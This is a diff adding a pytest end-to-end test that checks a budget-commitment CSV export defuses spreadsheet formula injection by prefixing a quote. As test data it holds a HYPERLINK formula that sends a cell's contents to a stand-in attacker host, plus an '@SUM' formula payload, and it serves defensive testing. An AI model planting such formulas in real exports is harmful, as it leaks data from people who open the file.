@@ -2,13 +2,15 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 import pytest
 import structlog
 
 from tests.e2e import bodies
-from tests.e2e.bodies import AUDITOR, OFFICIAL
+from tests.e2e.bodies import AUDITOR, FINANCE, OFFICIAL
 from tests.e2e.conftest import SECRET, Service
 
 
@@ -68,3 +70,25 @@ def test_a_nul_in_a_body_is_refused_before_anything_is_stored(service: Service) 
     assert response.status_code == 422
     assert response.json()["rule"] == "TextMustNotContainControlCharacters"
     assert service.head() == head
+
+
+def test_a_formula_in_a_commitment_reaches_the_spreadsheet_as_text(service: Service) -> None:
+    """CSV injection: a financier named as a formula is exported with a leading quote."""
+    formula = '=HYPERLINK("https://angripare.example/?d="&A2,"Klicka här")'
+    case_id = bodies.new_case(service)["id"]
+    bodies.new_commitment(
+        service,
+        case_id,
+        financier=formula,
+        amount="1000.00",
+        budget_areas=[{"name": "@SUM(1+1)", "amount": "1000.00"}],
+    )
+    listed = service.client.get(
+        "/api/v1/budget/commitments",
+        params={"financier": formula},
+        headers={**service.auth(FINANCE), "Accept": "text/csv"},
+    )
+    assert listed.status_code == 200, listed.text
+    rows = list(csv.DictReader(io.StringIO(listed.text)))
+    assert [(r["financier"], r["amount"]) for r in rows] == [(f"'{formula}", "1000.00")]
+    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r.values())
